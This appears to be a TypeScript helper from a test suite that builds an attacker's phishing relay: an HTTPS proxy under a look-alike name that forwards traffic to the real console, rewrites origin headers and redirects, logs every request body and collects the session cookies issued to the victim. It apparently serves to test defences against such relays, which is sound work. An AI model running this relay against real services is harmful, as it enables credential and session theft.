import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { type IncomingMessage, request, type ServerResponse } from 'node:http';
import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { selfSigned } from '../support/tls';

/**
 * The attacker's site: under a name of its own it hands every request on to the real console and every answer back, so it looks and works
 * like the console because it is the console, seen through the attacker's hands. Ready-made tools do no more than this.
 */
export interface Relay {
  /** What the victim sees in the address bar. */
  origin: string;
  /** Flags of a browser in which that name leads to the relay, as a registered domain and its certificate would. */
  flags: string[];
  /** Cookies the console meant for the victim, by name. */
  stolen: Map<string, string>;
  /** Everything the victim's browser sent. */
  seen: string[];
  close(): void;
}

export async function startRelay(host: string, target: string): Promise<Relay> {
  const console_ = new URL(target);
  const stolen = new Map<string, string>();
  const seen: string[] = [];

  async function pass(incoming: IncomingMessage, answer: ServerResponse): Promise<void> {
    const chunks: Buffer[] = [];
    for await (const chunk of incoming) chunks.push(chunk as Buffer);
    const body = Buffer.concat(chunks);
    seen.push(body.toString('utf8'));
    // To the console it is a visitor of its own pages.
    const headers = { ...incoming.headers, host: console_.host };
    if (headers.origin) headers.origin = target;
    if (headers.referer) headers.referer = headers.referer.replace(origin, target);
    const onward = request(
      { host: '127.0.0.1', port: console_.port, method: incoming.method, path: incoming.url, headers },
      (given) => {
        for (const cookie of given.headers['set-cookie'] ?? []) {
          const [name = '', value = ''] = (cookie.split(';')[0] ?? '').split('=');
          stolen.set(name, value);
        }
        const location = given.headers.location?.replace(target, origin);
        answer.writeHead(given.statusCode ?? 502, { ...given.headers, ...(location ? { location } : {}) });
        given.pipe(answer);
      },
    );
    onward.once('error', () => answer.destroy());
    onward.end(body);
  }

  const server = createServer(await certified(), (incoming, answer) => void pass(incoming, answer));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `https://${host}:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    flags: [`--host-resolver-rules=MAP ${host} 127.0.0.1`, '--ignore-certificate-errors'],
    stolen,
    seen,
    close() {
      server.closeAllConnections();
      server.close();
    },
  };
}

/** A browser that ignores who signed it takes it for the attacker's own, as it would one for a registered name. */
async function certified(): Promise<{ cert: Buffer; key: Buffer }> {
  const folder = mkdtempSync(join(tmpdir(), 'cordon-relay-'));
  try {
    const { cert, key } = await selfSigned(folder);
    return { cert: readFileSync(cert), key: readFileSync(key) };
  } finally {
    rmSync(folder, { recursive: true });
  }
}
